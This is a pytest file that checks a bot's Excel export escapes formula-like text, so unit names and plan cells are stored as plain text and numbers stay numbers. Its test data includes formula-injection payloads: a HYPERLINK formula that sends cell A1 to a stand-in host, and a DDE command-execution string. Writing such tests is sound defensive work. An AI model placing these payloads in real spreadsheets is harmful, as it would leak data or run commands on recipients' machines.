"""Spreadsheets the bot writes keep text as text: a unit name or a plan cell that looks
like a formula is never live when the office opens the file; numbers stay numbers."""

from __future__ import annotations

import io
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell

from bot.language.periods import Period
from bot.plans.xlsx import UNITS_SHEET, write_template
from bot.services.plans import PlanRecord, TaskRecord
from bot.services.progress import Overview, UnitProgress
from bot.sheets import FORMULA_STARTS, append, plain, put, store
from bot.views.plans import detail_workbook
from bot.views.progress import ranking_reply

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _cells(content: bytes, sheet: str | None = None):
    book = load_workbook(io.BytesIO(content))
    ws = book[sheet] if sheet else book.active
    return {cell.value: cell for row in ws.iter_rows() for cell in row if cell.value is not None}


def _saved(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_openpyxl_alone_would_write_a_formula() -> None:
    # Why the helper exists: assigning the text makes a formula.
    book = Workbook()
    book.active["A1"] = HOSTILE[0]
    assert _cells(_saved(book))[HOSTILE[0]].data_type == "f"


@pytest.mark.parametrize("text", HOSTILE)
def test_put_keeps_text_as_text(text: str) -> None:
    book = Workbook()
    cell = put(book.active, 1, 1, text)
    assert cell.data_type == "s"
    saved = _cells(_saved(book))[text]
    assert saved.data_type == "s" and saved.value == text
    assert saved.quotePrefix  # Excel keeps it text even when the cell is edited


@pytest.mark.parametrize("text", HOSTILE)
def test_store_keeps_text_as_text_in_a_write_only_sheet(text: str) -> None:
    book = Workbook(write_only=True)
    ws = book.create_sheet()
    ws.append([store(WriteOnlyCell(ws), text), store(WriteOnlyCell(ws), 72.5)])
    saved = load_workbook(io.BytesIO(_saved(book))).active
    cell = saved["A1"]
    assert (cell.value, cell.data_type) == (text, "s") and cell.quotePrefix
    assert (saved["B1"].value, saved["B1"].data_type) == (72.5, "n")


@pytest.mark.parametrize("text", [*HOSTILE, "#N/A", "#DIV/0!", "\x01=1+1"])
def test_plain_refuses_a_text_openpyxl_would_not_keep(text: str) -> None:
    assert plain(text) is None  # it needs a cell of its own, through store


def test_plain_text_appended_bare_stays_the_same_text() -> None:
    book = Workbook(write_only=True)
    ws = book.create_sheet()
    texts = ["Xã Sơn Dương", "1.1 xong, 2.1 đang làm 50%", "a\x01b", "", "so hoa 85%"]
    ws.append([plain(text) for text in texts])
    saved = load_workbook(io.BytesIO(_saved(book))).active
    values = [saved.cell(1, column).value for column in range(1, len(texts) + 1)]
    assert values == ["Xã Sơn Dương", "1.1 xong, 2.1 đang làm 50%", "ab", None, "so hoa 85%"]
    assert {saved.cell(1, column).data_type for column in (1, 2, 3, 5)} == {"s"}


def test_numbers_dates_and_plain_text_stay_what_they_are() -> None:
    book = Workbook()
    append(book.active, ["Xã Sơn Dương", 72.5, 3, date(2026, 12, 4), "#N/A", None, "a\x01b"])
    append(book.active, ["second row"])
    ws = load_workbook(io.BytesIO(_saved(book))).active
    first = [c for c in ws[1]]
    assert [c.value for c in first[:3]] == ["Xã Sơn Dương", 72.5, 3]
    assert [c.data_type for c in first[:3]] == ["s", "n", "n"]
    assert first[3].is_date
    assert (first[4].value, first[4].data_type) == ("#N/A", "s")  # not an error value
    assert first[6].value == "ab"  # a character a workbook cannot hold is dropped
    assert not first[0].quotePrefix
    assert ws["A2"].value == "second row"
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")


def test_the_full_ranking_writes_unit_names_as_text() -> None:
    units = []
    for index, name in enumerate(HOSTILE, start=1):
        unit = UnitProgress(index, name)
        unit.counts["done"] = 1
        unit.behind = ["=1+1"]
        units.append(unit)
    reply = ranking_reply(Overview(Period.month(2026, 11), units, [], [], None), "vi")
    cells = _cells(reply.attachments[0].content)
    for name in HOSTILE:
        assert cells[name].data_type == "s"
    assert cells["=1+1"].data_type == "s"
    ws = load_workbook(io.BytesIO(reply.attachments[0].content)).active
    progress = [row[-2] for row in ws.iter_rows(min_row=2)]
    assert all(c.data_type == "n" and c.value == 100 for c in progress)


def test_the_plan_details_write_plan_cells_as_text() -> None:
    task = TaskRecord(
        code="1.1",
        section="I. Kiểm soát",
        content=HOSTILE[0],
        lead_text="+Văn phòng",
        lead_units=("Văn phòng",),
        cooperate_text="-",
        cooperating_units=(),
        timeframe_text="@Quý I",
        kind="due",
        due=date(2026, 3, 31),
        start=None,
        recurrence=None,
        product="=2*3",
    )
    record = PlanRecord("=Kế hoạch", 2026, "=UBND", (task,), ())
    content = detail_workbook(record, [{"kind": "no_unit", "task": "=1+1"}], "vi")
    cells = _cells(content)
    for text in (HOSTILE[0], "+Văn phòng", "-", "@Quý I", "=2*3", "=Kế hoạch"):
        assert cells[text].data_type == "s", text
    assert any("31/03/2026" in str(text) for text in cells)


def test_the_template_writes_unit_names_as_text() -> None:
    buffer = io.BytesIO()
    write_template(buffer, year=2026, units=HOSTILE)
    cells = _cells(buffer.getvalue(), UNITS_SHEET)
    for name in HOSTILE:
        assert cells[name.strip()].data_type == "s"  # the template trims names
    assert cells["+1+1"].quotePrefix and cells["=1+1"].quotePrefix
    book = load_workbook(io.BytesIO(buffer.getvalue()))
    year = book.active["B2"]
    assert (year.value, year.data_type) == (2026, "n")
